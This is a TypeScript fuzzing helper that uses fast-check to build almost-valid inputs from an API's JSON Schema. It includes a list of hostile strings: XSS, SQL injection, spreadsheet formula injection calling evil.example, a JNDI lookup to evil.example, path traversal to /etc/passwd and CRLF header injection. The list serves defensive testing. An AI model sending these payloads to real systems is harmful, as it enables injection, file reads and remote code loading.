import * as fc from 'fast-check'

type Schema = any

/** Text that breaks out of what it is put into, where that does not encode it. */
export const hostileStrings = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  '__proto__',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  '=HYPERLINK("https://evil.example")',
  '+1',
  '-1+1',
  '@SUM(A1)',
  'a\r\nBcc: victim@example.org',
  'BEGIN:VEVENT\r\nEND:VEVENT',
  '\u202Egnp.exe',
  '\uFEFFx',
  '../../etc/passwd',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '\u001b[31mred',
  'x'.repeat(400),
]

const hostile = fc.constantFrom(...hostileStrings)
const junk: fc.Arbitrary<unknown> = fc.oneof(
  hostile,
  fc.jsonValue({ maxDepth: 3 }),
  fc.constantFrom(null, true, [], {}, -0, 1e308, Number.MAX_SAFE_INTEGER + 1, [[[[]]]], { __proto__: null }),
)

/**
 * Values that a JSON Schema of the API's document describes, and one in so many that it does not: what a client sends
 * that is almost right.
 */
export function arbitraryOf(
  schema: Schema,
  document: Schema,
  ids: readonly string[],
  depth = 0,
): fc.Arbitrary<unknown> {
  const right = rightValue(schema, document, ids, depth)
  return fc.oneof({ weight: 60, arbitrary: right }, { weight: 1, arbitrary: junk })
}

function rightValue(
  schema: Schema,
  document: Schema,
  ids: readonly string[],
  depth: number,
): fc.Arbitrary<unknown> {
  if (schema === true || schema === undefined) return junk
  if (typeof schema.$ref === 'string') {
    const named = schema.$ref
      .split('/')
      .slice(1)
      .reduce((at: Schema, name: string) => at[name], document)
    return arbitraryOf(named, document, ids, depth + 1)
  }
  if (depth > 8) return fc.constant(null)
  if ('const' in schema) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const choices = schema.anyOf ?? schema.oneOf
  if (choices) return fc.oneof(...choices.map((each: Schema) => arbitraryOf(each, document, ids, depth + 1)))
  switch (schema.type) {
    case 'string':
      return stringOf(schema, ids)
    case 'integer':
    case 'number':
      return numberOf(schema)
    case 'boolean':
      return fc.boolean()
    case 'null':
      return fc.constant(null)
    case 'array':
      return fc.array(arbitraryOf(schema.items ?? true, document, ids, depth + 1), { maxLength: 3 })
    case 'object':
      return objectOf(schema, document, ids, depth)
    default:
      return junk
  }
}

const days = ['2026-06-01', '2028-02-29', '0001-01-01', '9999-12-31']
const instants = ['2026-06-01T08:00:00Z', '2026-06-01T08:00:00.5+04:00', '9999-12-31T23:59:59Z']
const words = [
  'P3M',
  '-P30D',
  'Asia/Baku',
  '08:00',
  'FREQ=YEARLY',
  'FREQ=MONTHLY;BYDAY=3TU',
  '2026-06',
  '2026',
  '..',
]
const formats: Readonly<Record<string, readonly string[]>> = {
  date: days,
  'date-time': instants,
  email: ['a@b.example'],
  uri: ['https://example.org', 'mailto:a@b.example'],
}

function stringOf({ pattern, format, maxLength }: Schema, ids: readonly string[]): fc.Arbitrary<string> {
  const known = formats[String(format)]
  if (known !== undefined) return fc.constantFrom(...known)
  if (typeof pattern === 'string') {
    const expression = new RegExp(pattern, 'u')
    const fitting = [...ids, ...days, ...instants, ...words, '25', '100'].filter((text) =>
      expression.test(text),
    )
    if (fitting.length > 0) return fc.constantFrom(...fitting)
    return fc.constantFrom(...words, 'x', 'draft_text')
  }
  const plain = fc.string({
    minLength: 1,
    maxLength: Math.min(Number(maxLength ?? 40), 40),
    unit: 'grapheme',
  })
  const other = fc.constantFrom(...ids, ...days, ...instants, ...words)
  return fc.oneof({ weight: 2, arbitrary: plain }, { weight: 2, arbitrary: other }, hostile)
}

function numberOf({ minimum = -5, maximum = 100 }: Schema): fc.Arbitrary<number> {
  const from = Math.max(Number(minimum), -1e9)
  const to = Math.min(Number(maximum), 1e9)
  return fc.oneof(
    fc.integer({ min: from, max: Math.max(from, to) }),
    fc.constantFrom(from, to, from - 1, to + 1, 0.5),
  )
}

function objectOf(
  schema: Schema,
  document: Schema,
  ids: readonly string[],
  depth: number,
): fc.Arbitrary<unknown> {
  const members = Object.fromEntries(
    Object.entries(schema.properties ?? {}).map(([name, each]) => [
      name,
      arbitraryOf(each, document, ids, depth + 1),
    ]),
  )
  const whole = fc.record(members, { requiredKeys: schema.required ?? [] })
  const odd = fc.tuple(whole, fc.oneof(hostile, fc.constantFrom(...Object.keys(members), 'x')), junk)
  return fc.oneof(
    { weight: 40, arbitrary: whole },
    { weight: 1, arbitrary: odd.map(([object, name, value]) => ({ ...object, [name]: value })) },
    { weight: 1, arbitrary: fc.record(members, { requiredKeys: [] }) },
  )
}
